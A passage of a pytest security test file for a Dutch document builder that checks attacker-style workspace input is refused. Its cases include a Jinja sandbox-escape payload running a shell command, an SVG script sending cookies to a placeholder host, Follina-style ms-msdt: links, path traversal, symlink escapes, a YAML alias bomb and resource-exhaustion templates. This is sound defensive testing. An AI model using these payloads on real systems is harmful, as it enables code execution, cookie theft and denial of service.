"""Bad input from a workspace, tried as an attacker would (issue 12).

A table of cases: a mutation of a fresh example workspace, the command, the exit code and a
fragment of the Dutch message. Every case also checks that no traceback is shown, that the
payload never ran (it would create ``PWNED``) and that nothing outside the workspace was
written. Where a failure would be a hang or an exhaustion (a block or template that
computes too much, a file that never ends), the command runs in a process of its own with a
timeout and a memory cap (``tests/capped.py``: one per case, forked from one parent that
imports the package once), so it fails fast instead of taking CI down; a case that only
shows a Dutch refusal runs the command in-process (``run_cli``).
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import ALIAS_BOMB, ROOT, copy_example, edit_yaml, run_cli, run_cli_capped

MEMORY = 3 * 1024**3  # bytes of address space for one command
TIME = 120  # seconds; every case ends within seconds when it works


def payload(marker: Path) -> str:
    """Jinja that runs a shell command when a template is rendered outside the sandbox."""
    return f"{{{{ cycler.__init__.__globals__.os.popen('touch {marker}').read() }}}}"


def first_line_after_comment(name: str) -> int:
    """The line of shipped template ``naam`` right after its leading ``{#- ... -#}`` comment
    (what is inserted there runs; inside the comment it would not)."""
    lines = (ROOT / "templates" / name).read_text(encoding="utf-8").split("\n")
    return next(i for i, r in enumerate(lines, start=1) if r.rstrip().endswith("#}")) + 1


# Where a line inserted into the site layout runs: before its {% extends %}.
LAYOUT_LINE = first_line_after_comment("site/layout.html")


def set_in_template(werkmap: Path, name: str, text: str, line: int = 3) -> None:
    """A workspace copy of shipped template ``naam`` with ``text`` inserted as line ``line``."""
    lines = (ROOT / "templates" / name).read_text(encoding="utf-8").split("\n")
    lines.insert(line - 1, text)
    target = werkmap / "templates" / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("\n".join(lines), encoding="utf-8")


def icon(werkmap: Path, inside: str) -> None:
    """A workspace copy of the site's icon with ``inside`` added in its <svg>."""
    shipped = (ROOT / "templates" / "site" / "favicon.svg").read_text(encoding="utf-8")
    target = werkmap / "templates" / "site" / "favicon.svg"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(shipped.replace("</svg>", inside + "</svg>"), encoding="utf-8")


def blok(werkmap: Path, text: str, name: str = "aanval.md") -> Path:
    """A workspace block that sits in the first chapter of the regiovisie."""
    path = werkmap / "content" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        f"---\nid: aanval\ntitel: Aanval\nhoofdstuk: inleiding\n---\n{text}\n", encoding="utf-8"
    )
    return path


def special(werkmap: Path, soort: str) -> None:
    """A special file among the blocks of content/."""
    content = werkmap / "content"
    if soort == "fifo":
        os.mkfifo(content / "pijp.md")
    elif soort == "dev-zero":
        (content / "nul.md").symlink_to("/dev/zero")
    elif soort == "folder":
        (content / "x.md").mkdir()
    elif soort == "dangling":
        (content / "weg.md").symlink_to(content / "bestaat-niet.md")
    elif soort == "loop":
        (content / "a.md").symlink_to(content / "b.md")
        (content / "b.md").symlink_to(content / "a.md")
    elif soort == "huge":
        with open(content / "groot.md", "wb") as out:
            out.truncate(21 * 1024 * 1024)


def opzet_with(werkmap: Path, old: str, new: str) -> None:
    """A workspace copy of the regiovisie outline with ``old`` replaced by ``new``."""
    text = (ROOT / "templates/documenten/regiovisie.yaml").read_text(encoding="utf-8")
    assert old in text
    target = werkmap / "templates/documenten/regiovisie.yaml"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text.replace(old, new), encoding="utf-8")


def link(path: Path, target: Path | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


def secret_blok(werkmap: Path) -> Path:
    """A valid block outside the workspace, next to it."""
    secret = werkmap.parent.parent / "elders" / "geheim.md"
    secret.write_text(
        "---\nid: geheim\ntitel: Geheim\nhoofdstuk: inleiding\n---\nGEHEIME TEKST\n",
        encoding="utf-8",
    )
    return secret


def secret_reacties(werkmap: Path) -> Path:
    """A reaction export outside the workspace, next to it."""
    secret = werkmap.parent.parent / "elders" / "geheim.csv"
    secret.write_text("naam;paragraaf;reactie\nJan;1.1;Geheim\n", encoding="utf-8")
    return secret


def secret_answers(werkmap: Path) -> Path:
    """Another workspace's answers file (its reactions) outside the workspace, next to it."""
    secret = werkmap.parent.parent / "elders" / "antwoorden.yaml"
    secret.write_text(
        "reacties:\n  - id: R-1\n    indiener: Inwoner 1\n    soort: inwoner\n"
        "    reactie: GEHEIME REACTIE\n    antwoord: ''\n",
        encoding="utf-8",
    )
    return secret


def gemeenten(werkmap: Path, names: list[str]) -> None:
    """regio.yaml with these municipalities (copies of the first one, renamed)."""

    def change(data):
        first = data["regio"]["gemeenten"][0]
        # Deep copies: shared sub-dicts would be written as YAML aliases, which are refused.
        data["regio"]["gemeenten"] = [{**copy.deepcopy(first), "naam": name} for name in names]

    edit_yaml(werkmap, change)


def versie_with_alias_bomb(werkmap: Path) -> None:
    """A published version whose manifest vouches for an outline that is a YAML alias bomb
    (nine lines, 9**9 values once expanded): the manifest travels with the workspace."""
    import hashlib
    import json

    # A valid outline whose chapter lists the bomb as its blocks: reading the outline walks it.
    outline = (
        f"soort: regiovisie\n{ALIAS_BOMB}hoofdstukken:\n  - id: a\n    titel: A\n    blokken: *i\n"
    )
    files = {"regio.yaml": (werkmap / "regio.yaml").read_bytes(), "opzet.yaml": outline.encode()}
    folder = werkmap / "versies" / "0.1"
    folder.mkdir(parents=True)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    manifest = {
        "versie": "0.1",
        "status": "concept",
        "datum": "2021-01-01",
        "bestanden": {name: hashlib.sha256(c).hexdigest() for name, c in files.items()},
    }
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def stray_versie(werkmap: Path, name: str) -> None:
    """A folder in versies/ with a manifest, whose name publish would never have made."""
    folder = werkmap / "versies" / name
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_text("{}", encoding="utf-8")


DEEP_JSON = "[" * 200_000 + "]" * 200_000  # json's parser recurses: RecursionError


def deep_chart() -> str:
    """A ``grafiek:`` figure path whose data is JSON nested too deeply to read."""
    import base64
    import zlib

    # Within the 200,000 characters a chart may unpack to, so json itself meets it.
    deep = "[" * 50_000 + "]" * 50_000
    code = base64.urlsafe_b64encode(zlib.compress(deep.encode(), 9)).decode()
    return f"![Grafiek](grafiek:{code.rstrip('=')})"


def nested_manifest(werkmap: Path) -> None:
    folder = werkmap / "versies" / "0.1"
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_text(DEEP_JSON, encoding="utf-8")


def forged_versie(werkmap: Path) -> None:
    """A published version whose manifest names a file outside the version folder."""
    import hashlib
    import json

    secret = secret_blok(werkmap)
    folder = werkmap / "versies" / "0.1"
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_text(
        json.dumps(
            {
                "versie": "0.1",
                "status": "concept",
                "datum": "2021-01-01",
                "bestanden": {
                    "../../../elders/geheim.md": hashlib.sha256(secret.read_bytes()).hexdigest()
                },
            }
        ),
        encoding="utf-8",
    )


@dataclass(frozen=True)
class Case:
    name: str
    change: Callable[[Path, Path], None]  # (werkmap, marker) -> None
    args: tuple[str, ...]  # after the workspace: build WERKMAP ARGS
    code: int
    message: str | tuple[str, ...]  # fragments of the message
    command: str = "build"
    slow: bool = False
    beforehand_build: bool = False  # build once first, so the build cache has an entry
    # Where a failure would be a hang or an exhaustion, the command runs in a subprocess with
    # a timeout and a memory cap; a case that only shows a Dutch refusal runs in-process.
    limited: bool = False


CASES = [
    # 1. Workspace templates are rendered in the sandbox.
    Case(
        "html-layout-runs-code",
        lambda w, m: set_in_template(w, "html/document.html", payload(m)),
        ("-f", "html"),
        2,
        "templates/html/document.html, regel 3: dit is niet toegestaan in een sjabloon",
    ),
    Case(
        "html-layout-syntax-error",
        lambda w, m: set_in_template(w, "html/document.html", "{% if meta %}"),
        ("-f", "html"),
        2,
        "templates/html/document.html, regel",
    ),
    Case(
        "html-layout-unknown-filter",
        lambda w, m: set_in_template(w, "html/document.html", "{{ meta | onbekend }}"),
        ("-f", "html"),
        2,
        "templates/html/document.html, regel 3: de Jinja-opmaak klopt niet: onbekend filter",
    ),
    # Python's own (English) message and class names never reach the user.
    Case(
        "html-layout-division-by-zero",
        lambda w, m: set_in_template(w, "html/document.html", "{{ 1 / 0 }}"),
        ("-f", "html"),
        2,
        "templates/html/document.html, regel 3: bij het invullen ging iets mis: er wordt "
        "gedeeld door nul.",
    ),
    Case(
        # An AttributeError in a filter given the wrong kind of value was a traceback.
        "html-layout-filter-on-the-wrong-value",
        lambda w, m: set_in_template(w, "html/document.html", "{{ 'x' | xmlattr }}"),
        ("-f", "html"),
        2,
        "templates/html/document.html, regel 3: bij het invullen ging iets mis: een waarde "
        "heeft niet het onderdeel dat hier wordt gevraagd.",
    ),
    Case(
        # Python refuses the code Jinja makes of more than 20 loops inside each other: that
        # SyntaxError was a traceback.
        "html-layout-loops-nested-too-deeply",
        lambda w, m: set_in_template(
            w, "html/document.html", "{% for a in [1] %}" * 22 + "{% endfor %}" * 22
        ),
        ("-f", "html"),
        2,
        "templates/html/document.html: de Jinja-opmaak is te diep genest",
    ),
    Case(
        "html-layout-too-many-tags",
        lambda w, m: set_in_template(w, "html/document.html", "{{ 1 }}" * 30_000),
        ("-f", "html"),
        2,
        "templates/html/document.html: er staat te veel Jinja-opmaak in: meer dan 100.000",
    ),
    Case(
        "html-layout-huge-number",
        lambda w, m: set_in_template(w, "html/document.html", "{{ 9**999999999 }}"),
        ("-f", "html"),
        2,
        "templates/html/document.html, regel 3: een getal wordt te groot",
        limited=True,
    ),
    # A stylesheet of the web pages may not make every reader's browser fetch from elsewhere.
    Case(
        "colours-import-from-elsewhere",
        lambda w, m: set_in_template(
            w, "kleuren.css", "@import url(https://teller.example/t.css);"
        ),
        ("-f", "html"),
        2,
        "templates/kleuren.css, regel 3: dit stijlbestand haalt een bestand of adres van elders op",
    ),
    Case(
        "style-fetches-behind-an-escape",
        lambda w, m: set_in_template(
            w, "html/stijl.css", "body { background: u\\72l(//teller.example/p.png); }", line=2
        ),
        ("-f", "html"),
        2,
        "templates/html/stijl.css, regel 2: dit stijlbestand haalt een bestand of adres",
    ),
    Case(
        # The site serves the icon as a file: opened in a tab, a script in it would run.
        "site-icon-with-a-script",
        lambda w, m: icon(w, '<script>fetch("https://teller.example/" + document.cookie)</script>'),
        ("-f", "site"),
        2,
        (
            "Het pictogram van de website kan niet worden gebruikt.",
            "templates/site/favicon.svg: 'favicon.svg' bevat een <script>-onderdeel",
        ),
    ),
    Case(
        "site-index-runs-code",
        lambda w, m: set_in_template(w, "site/versies.html", payload(m)),
        ("-f", "site"),
        2,
        "templates/site/versies.html, regel 3: dit is niet toegestaan in een sjabloon",
        slow=True,
    ),
    Case(
        "site-layout-runs-code",
        lambda w, m: set_in_template(w, "site/layout.html", payload(m), line=LAYOUT_LINE),
        ("-f", "site"),
        2,
        f"templates/site/layout.html, regel {LAYOUT_LINE}: dit is niet toegestaan in een sjabloon",
        slow=True,
    ),
    Case(
        "site-layout-syntax-error",
        lambda w, m: set_in_template(w, "site/layout.html", "{% if x %}", line=LAYOUT_LINE),
        ("-f", "site"),
        2,
        ("templates/site/layout.html, regel ", "de Jinja-opmaak klopt niet: het houdt op"),
        slow=True,
    ),
    # Footnote text that no output would show stops the build instead of vanishing.
    Case(
        "footnote-without-reference",
        lambda w, m: blok(w, "Tekst.\n\n[^a]: Los.\n\n[^b]: Ook los."),
        ("-f", "html"),
        2,
        (
            "1 blok bevat een fout",
            "content/aanval.md, regel 8: blok 'aanval': de tekst verwijst nergens naar "
            "voetnoot [^a], dus die zou niet in het document komen.",
            "content/aanval.md, regel 10: blok 'aanval': de tekst verwijst nergens naar "
            "voetnoot [^b]",
        ),
    ),
    Case(
        "footnote-in-a-footnote",
        lambda w, m: blok(w, "Tekst[^a].\n\n[^a]: Zie[^b].\n[^b]: Meer."),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 8: blok 'aanval': een voetnoot verwijst naar voetnoot [^b]. "
        "Een voetnoot kan geen eigen voetnoot hebben.",
    ),
    Case(
        "footnote-label-twice-and-one-missing",
        lambda w, m: blok(w, "Tekst[^a] en [^b].\n\n[^a]: Een.\n\n[^a]: Twee."),
        ("-f", "html"),
        2,
        (
            "content/aanval.md, regel 8: blok 'aanval': er staan 2 voetnoten [^a] onderaan "
            "het blok (regel 8 en 10).",
            "content/aanval.md, regel 6: blok 'aanval': de tekst verwijst naar voetnoot [^b], "
            "maar die staat niet onderaan het blok.",
        ),
    ),
    Case(
        "table-in-a-list",
        lambda w, m: blok(w, "Tekst.\n\n- punt\n\n  | A | B |\n  |---|---|\n  | 1 | 2 |"),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 10: blok 'aanval': een opsomming kan geen tabel bevatten.",
    ),
    Case(
        "table-row-wider-than-its-header",
        lambda w, m: blok(w, "Tekst.\n\n| A | B |\n|---|---|\n| 1 | 2 | 3 |"),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 10: blok 'aanval': de rij '| 1 | 2 | 3 |' heeft 3 cellen, "
        "de kopregel van de tabel 2.",
    ),
    # A block with Jinja: the reader counts lines in the filled-in text; the message names
    # the line in the file (a loop above changes the count).
    Case(
        "footnote-line-after-a-loop",
        lambda w, m: blok(
            w,
            "{% for g in regio.gemeenten %}\n- {{ g.naam }}\n{% endfor %}\n\n[^los]: Los.",
        ),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 10: blok 'aanval': de tekst verwijst nergens naar voetnoot "
        "[^los]",
    ),
    Case(
        "generated-table-row-too-wide",
        lambda w, m: blok(
            w,
            "| A | B |\n|---|---|\n{% for g in regio.gemeenten %}| {{ g.naam }} | 1 | 2 |\n"
            "{% endfor %}",
        ),
        ("-f", "html"),
        2,
        # The generated row is named by the line of the loop that made it.
        "content/aanval.md, regel 8: blok 'aanval': de rij '| Haarlem | 1 | 2 |' heeft 3 cellen",
    ),
    Case(
        # Word opens no table wider than 63 columns; LibreOffice took minutes over 10,000.
        "table-wider-than-word-allows",
        lambda w, m: blok(w, "Tekst.\n\n" + "\n".join("|" + f"{c}|" * 10_000 for c in "a-1")),
        ("-f", "docx"),
        2,
        "content/aanval.md, regel 8: blok 'aanval': de tabel heeft 10000 kolommen. Word kan "
        "een tabel met hoogstens 63 kolommen openen.",
    ),
    Case(
        # LibreOffice's time to lay a table out for the PDF grows faster than the table:
        # 40,000 parts took 54 s. (The Word writer took 11 s before it became linear.)
        "table-too-large-for-the-pdf",
        lambda w, m: blok(w, "Tekst.\n\n| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 10_000),
        ("-f", "docx"),
        2,
        "content/aanval.md, regel 8: blok 'aanval': de tabel heeft 10000 rijen en 20000 "
        "cellen, met 40000 onderdelen (cellen en stukken tekst). Een tabel mag er hoogstens "
        "20000 hebben: anders duurt het maken van de PDF minuten.",
        limited=True,
    ),
    Case(
        "link-without-web-address",
        lambda w, m: blok(w, "Tekst.\n\nZie [de site](www.voorbeeld.nl)."),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 8: blok 'aanval': de link 'www.voorbeeld.nl' is geen "
        "volledig webadres; zet https:// ervoor: https://www.voorbeeld.nl.",
    ),
    Case(
        # A published page is read by the public: a link that starts a program on the
        # reader's computer (the Follina attack used ms-msdt:) has no place in it.
        "link-that-starts-a-program",
        lambda w, m: blok(w, "Tekst.\n\nLees [de handleiding](ms-msdt:/id%20PCWDiagnostic)."),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 8: blok 'aanval': de link 'ms-msdt:/id PCWDiagnostic' begint "
        "met 'ms-msdt:'. Een link in het document mag alleen naar een webpagina",
    ),
    Case(
        "autolink-that-opens-a-search",
        lambda w, m: blok(w, "Tekst.\n\nZie <search-ms:query=factuur&crumb=location:\\\\x>."),
        ("-f", "html"),
        2,
        "begint met 'search-ms:'",
    ),
    Case(
        # Half of a UTF-16 pair: no writer can encode it (the HTML writer failed with a
        # traceback).
        "block-makes-half-of-a-pair",
        lambda w, m: blok(w, "Tekst.\n\nCode {{ '%c' % 55296 }}."),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 8: het invullen maakt de code \\uD800: dat is geen teken",
    ),
    *(
        Case(
            # Jinja's parser recursing (RecursionError) or Python refusing what it made
            # (SyntaxError) while the block was compiled: a traceback, exit 1.
            f"block-jinja-{name}-nested-too-deeply",
            lambda w, m, text=text: blok(w, f"Tekst.\n\n{text}"),
            ("-f", "html"),
            2,
            "content/aanval.md, regel 6: de Jinja-opmaak is te diep genest",
        )
        for name, text in [
            ("loops", "{% for a in [1] %}" * 22 + "{% endfor %}" * 22),
            ("parentheses", "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}"),
        ]
    ),
    # Markdown-it takes minutes and hundreds of MB on a pile of emphasis and link openers (a
    # million '*_'); a block is refused above 50,000 of them, also when Jinja makes them.
    Case(
        "block-with-a-pile-of-emphasis",
        lambda w, m: blok(w, "*_" * 500_000),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 6: blok 'aanval': na het invullen staan er 1.000.000 tekens",
        limited=True,
    ),
    Case(
        "block-that-makes-a-pile-of-links",
        lambda w, m: blok(w, "Tekst {{ '[' * 1000000 }}."),
        ("-f", "html"),
        2,
        "Een blok mag er hoogstens 50.000 hebben",
        limited=True,
    ),
    Case(
        # Infinity made dutch.number fail with an IndexError: a traceback, exit 1.
        "block-number-that-is-infinite",
        lambda w, m: blok(w, "Tekst.\n\nHet is {{ (1e308 * 10) | getal }}."),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 8: bij het invullen ging iets mis: de uitkomst is oneindig "
        "groot of geen getal.",
    ),
    Case(
        "missing-picture-after-a-loop",
        lambda w, m: blok(
            w,
            "{% for g in regio.gemeenten %}\n- {{ g.naam }}\n{% endfor %}\n\n"
            "![Kaart van de regio](weg.png)\nFiguur: De regio",
        ),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 10: de afbeelding 'weg.png'",
    ),
    # 2. Names that become paths are checked; nothing is read or written outside.
    Case(
        "outline-soort-escapes",
        lambda w, m: opzet_with(w, "soort: regiovisie", 'soort: "../../../elders/index"'),
        ("-f", "html"),
        2,
        "De documentsoort '../../../elders/index' kan geen bestandsnaam worden",
    ),
    Case(
        "soort-option-escapes",
        lambda w, m: (w.parent.parent / "elders" / "x.yaml").write_text("soort: x\n"),
        ("-f", "html", "--soort", "../../../elders/x"),
        2,
        "De documentsoort '../../../elders/x' kan geen bestandsnaam worden",
    ),
    # An outline of its own, named as a Windows device: build/nul.docx cannot be opened on
    # the shared drives and laptops of the municipalities.
    Case(
        "soort-windows-device",
        lambda w, m: opzet_with(w, "soort: regiovisie", "soort: nul"),
        ("-f", "html"),
        2,
        "De documentsoort 'nul' kan geen bestandsnaam worden: Windows gebruikt die naam",
    ),
    Case(
        "raadsstuk-soort-escapes",
        lambda w, m: opzet_with(w, "[raadsvoorstel, raadsbesluit]", "['../../x']"),
        ("-f", "docx", "--raadsstukken"),
        2,
        "De documentsoort '../../x' kan geen bestandsnaam worden",
    ),
    Case(
        "block-symlink-outside",
        lambda w, m: link(w / "content" / "geheim.md", secret_blok(w)),
        ("-f", "html"),
        2,
        "content/geheim.md: dit is een koppeling (symlink) naar een bestand buiten de werkmap",
    ),
    Case(
        "template-symlink-outside",
        lambda w, m: link(w / "templates" / "html" / "document.html", secret_blok(w)),
        ("-f", "html"),
        2,
        "templates/html/document.html: dit is een koppeling (symlink) naar een bestand buiten",
    ),
    Case(
        "build-folder-symlink-outside",
        lambda w, m: link(w / "build", w.parent.parent / "elders"),
        ("-f", "html"),
        2,
        "ligt buiten de werkmap",
    ),
    Case(
        "municipality-slugs-collide",
        lambda w, m: gemeenten(w, ["Bergen NH", "Bergen (NH)"]),
        ("-f", "docx", "--raadsstukken"),
        2,
        "krijgen dezelfde bestandsnaam 'bergen-nh'",
    ),
    Case(
        "manifest-path-escapes",
        lambda w, m: forged_versie(w),
        ("0.1",),
        2,
        "dit pad ligt buiten de versie",
        command="diff",
    ),
    Case(
        "manifest-nested-too-deeply",
        lambda w, m: nested_manifest(w),
        ("0.1",),
        2,
        "Het manifest van de gepubliceerde versie '0.1' is onleesbaar",
        command="diff",
    ),
    Case(
        # isdigit() holds for '²', which int() refuses: the versions' sort key crashed.
        "version-folder-named-with-another-digit",
        lambda w, m: stray_versie(w, "²"),
        ("0.1",),
        2,
        "Versie '0.1' is niet gepubliceerd. Gepubliceerde versies: ².",
        command="diff",
    ),
    Case(
        "chart-data-nested-too-deeply",
        lambda w, m: blok(w, f"Tekst.\n\n{deep_chart()}"),
        ("-f", "html"),
        2,
        ("content/aanval.md", "de gegevens van de grafiek zijn beschadigd"),
    ),
    Case(
        "published-outline-alias-bomb",
        lambda w, m: versie_with_alias_bomb(w),
        ("0.1",),
        2,
        ("versies/0.1/opzet.yaml, regel 3:", "aliassen) zijn niet toegestaan"),
        command="diff",
        limited=True,
    ),
    Case(
        "reaction-file-symlink-outside",
        lambda w, m: link(w / "reacties" / "geheim.csv", secret_reacties(w)),
        (),
        2,
        "reacties/geheim.csv: Een bestand in de werkmap kan niet worden gelezen: dit is een "
        "koppeling (symlink) naar een bestand buiten de werkmap",
        command="reactions",
    ),
    Case(
        # A link to another workspace's answers would put its reactions in this nota.
        "answers-file-symlink-outside",
        lambda w, m: link(w / "reacties" / "antwoorden.yaml", secret_answers(w)),
        (),
        2,
        "reacties/antwoorden.yaml: dit is een koppeling (symlink) naar een bestand buiten de "
        "werkmap",
        command="reactions",
    ),
    Case(
        "reaction-file-fifo",
        lambda w, m: (w / "reacties").mkdir() or os.mkfifo(w / "reacties" / "pijp.csv"),
        (),
        2,
        "reacties/pijp.csv: Een bestand in de werkmap kan niet worden gelezen: dit is geen "
        "gewoon bestand",
        command="reactions",
        limited=True,
    ),
    # 6. A block cannot hang the build or exhaust memory: each limit ends it within seconds.
    *(
        Case(
            f"block-{name}",
            lambda w, m, text=text: blok(w, f"Tekst.\n\n{text}"),
            ("-f", "html"),
            2,
            f"content/aanval.md, regel 8: {message}",
            limited=True,
        )
        for name, text, message in [
            ("huge-power", "{{ 9**999999999 }}", "een getal wordt te groot"),
            (
                "nested-loops",
                "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
                "het invullen",
            ),
            ("lipsum", "{{ lipsum(10**6) }}", "lipsum geeft hoogstens 20 alinea's"),
            ("repeat-string", "{{ 'a'*10**9 }}", "een tekst of lijst wordt te lang"),
            (
                "recursive-macro",
                "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(1) }}",
                "aanroepen gaan meer dan 40 lagen diep",
            ),
            (
                "doubling-namespace",
                "{% set ns = namespace(s='a') %}{% for i in range(64) %}"
                "{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
                "een tekst of lijst wordt te lang",
            ),
            (
                "format-width",
                "{{ '{:>999999999}'.format(1) }}",
                "een opmaak vraagt om een te grote breedte",
            ),
            (
                "center-width",
                "{{ 'a' | center(10**9) }}",
                "het getal 1000000000 is te groot als breedte",
            ),
        ]
    ),
    Case(
        # Compiling costs time per token: one tag with a list of a million numbers took 27 s.
        "block-huge-list-in-one-tag",
        lambda w, m: blok(w, "{{ [" + "1, " * 200_000 + "1] | length }}"),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 6: er staat te veel Jinja-opmaak in",
        limited=True,
    ),
    Case(
        # Compiling costs time per tag: a block of 2.5 million took 4.5 minutes.
        "block-too-many-tags",
        lambda w, m: blok(w, "{{ 1 }}" * 300_000),
        ("-f", "html"),
        2,
        "content/aanval.md, regel 6: er staat te veel Jinja-opmaak in: meer dan 100.000 onderdelen",
        limited=True,
    ),
    # 10. Only regular files within a size cap are read; the cache does not hide the others.
    *(
        Case(
            f"content-{soort}{'-after-cached-build' if beforehand else ''}",
            lambda w, m, soort=soort: special(w, soort),
            ("-f", "html"),
            2,
            message,
            beforehand_build=beforehand,
            limited=soort in ("fifo", "dev-zero", "huge"),
        )
        for soort, message in [
            ("fifo", "content/pijp.md: dit is geen gewoon bestand"),
            ("dev-zero", "content/nul.md: dit is een koppeling (symlink) naar een bestand buiten"),
            ("folder", "content/x.md: dit is een map, geen bestand"),
            ("dangling", "content/weg.md: dit is een koppeling (symlink) die nergens heen wijst"),
            ("loop", "content/a.md: dit is een koppeling (symlink) die nergens heen wijst"),
            ("huge", "content/groot.md: het bestand is groter dan 20 MB"),
        ]
        for beforehand in (False, True)
    ),
    # 13. A version number that would strand the workspace is refused, saying the form.
    *(
        Case(
            f"version-{versie}",
            lambda w, m, versie=versie: edit_yaml(w, lambda d: d["document"].update(versie=versie)),
            (),
            2,
            f"Het versienummer '{versie}' kan niet als mapnaam dienen. Een versienummer "
            "bestaat uit getallen met punten ertussen, zonder voorloopnullen: bijvoorbeeld "
            "1.0, 0.9 of 1.2.1.",
            command="publish",
        )
        # One form through the command: the same pattern refuses the others
        # (``test_every_stranding_version_form_is_refused``), before anything is written.
        for versie in ("0.05",)
    ),
]

VERSION_MESSAGE = (
    "Het versienummer '{}' kan niet als mapnaam dienen. Een versienummer bestaat uit getallen "
    "met punten ertussen, zonder voorloopnullen: bijvoorbeeld 1.0, 0.9 of 1.2.1."
)


def _files(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


BEFOREHAND = ("build", "-f", "html")  # the good build of a case with ``beforehand_build``


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """The example after one good build (in-process, so its build cache has entries): made
    once per module, each case that needs it gets a copy of its own."""
    werkmap = copy_example("zuid-kennemerland-ijmond", tmp_path_factory.mktemp("gebouwd"))
    first = run_cli(BEFOREHAND[0], werkmap, *BEFOREHAND[1:])
    assert first.returncode == 0, first.stderr
    return werkmap


def _prepare(case: Case, base: Path, built: Path | None) -> tuple[Path, dict[str, bytes]]:
    """The case's workspace in ``base``/regio with its change made, a folder ``base``/elders
    beside it; returns the workspace and the files outside it."""
    if case.beforehand_build:  # a copy of the workspace after a good build
        assert (case.command, *case.args) == BEFOREHAND
        assert built is not None
        werkmap = base / "regio" / built.name
        shutil.copytree(built, werkmap, symlinks=True)
        assert (werkmap / "build" / ".cache").is_dir()
    else:
        werkmap = copy_example("zuid-kennemerland-ijmond", base / "regio")
    elsewhere = base / "elders"
    elsewhere.mkdir()
    (elsewhere / "index.html").write_text("niet aankomen", encoding="utf-8")
    case.change(werkmap, base / "PWNED")
    return werkmap, _files(base / "elders")


def _check(case: Case, base: Path, werkmap: Path, outside_for: dict, outcome, duration: float):
    assert outcome.returncode is not None, f"{case.name}: did not end within {TIME} s"
    assert outcome.returncode == case.code, outcome.stdout + outcome.stderr
    messages = (case.message,) if isinstance(case.message, str) else case.message
    for message in messages:
        assert message in outcome.stderr, outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert duration < TIME / 2, f"took {duration:.0f} s"
    assert not (base / "PWNED").exists(), "the payload ran"
    assert _files(base / "elders") == outside_for
    assert sorted(p.name for p in base.iterdir()) == ["elders", "regio"]
    if case.command == "publish":
        assert not (werkmap / "versies").exists()


@pytest.fixture(scope="module")
def capped(tmp_path_factory, built) -> dict[str, tuple]:
    """The cases with ``limited``, each prepared in a folder of its own and run in a
    process of its own with the memory cap and time limit (see ``tests/capped.py``; one
    parent process imports the package once for all of them). By case name: the folder,
    the workspace, the files outside it before, the outcome."""
    from tests.capped import Batch

    batch = Batch(tmp_path_factory.mktemp("uitvoer"))
    prepared = {}
    for case in CASES:
        if case.limited:
            base = tmp_path_factory.mktemp(case.name)
            werkmap, outside_for = _prepare(case, base, built if case.beforehand_build else None)
            prepared[case.name] = (base, werkmap, outside_for)
            batch.add(case.name, case.command, werkmap, *case.args, memory=MEMORY, timeout=TIME)
    # The full-disk commands (see ``full_disk``) run in the same batch.
    for name, (args, _) in FULL_DISK.items():
        base = tmp_path_factory.mktemp(name)
        werkmap = copy_example("zuid-kennemerland-ijmond", base)
        tmpdir = base / "tmp"
        tmpdir.mkdir()
        prepared[f"full-disk:{name}"] = (werkmap, tmpdir)
        batch.add(
            f"full-disk:{name}",
            args[0],
            werkmap,
            *args[1:],
            memory=MEMORY,
            file_size=8 * 1024,
            timeout=TIME,
            env={"TMPDIR": str(tmpdir)},
        )
    outcomes = batch.run()
    return {name: (*prepared[name], outcomes[name]) for name in prepared}


@pytest.mark.parametrize(
    "case",
    [pytest.param(g, marks=[pytest.mark.slow] if g.slow else []) for g in CASES],
    ids=lambda g: g.name,
)
def test_bad_input_is_refused_in_dutch(case: Case, tmp_path: Path, request):
    if case.limited:
        base, werkmap, outside_for, outcome = request.getfixturevalue("capped")[case.name]
        _check(case, base, werkmap, outside_for, outcome, outcome.seconds)
        return
    built = request.getfixturevalue("built") if case.beforehand_build else None
    werkmap, outside_for = _prepare(case, tmp_path, built)
    begin = time.monotonic()
    outcome = run_cli(case.command, werkmap, *case.args)
    _check(case, tmp_path, werkmap, outside_for, outcome, time.monotonic() - begin)


@pytest.mark.parametrize("versie", ["0.05", "0.010", "v1", "latest", "1.0/../x", ""])
def test_every_stranding_version_form_is_refused(versie):
    """The check ``publish`` makes before it writes anything (its case in ``CASES`` shows the
    command, exit code 2 and nothing published, for 0.05)."""
    from regiovisie_builder import versies
    from regiovisie_builder.errors import ConfigError

    with pytest.raises(ConfigError) as refusal:
        versies.check_order(versie, "concept", [])
    assert VERSION_MESSAGE.format(versie) in str(refusal.value)


def test_real_municipality_names_make_safe_file_names(tmp_path: Path):
    # Slugs are derived first and then checked, so real names keep working.
    werkmap = copy_example("zuid-kennemerland-ijmond", tmp_path)
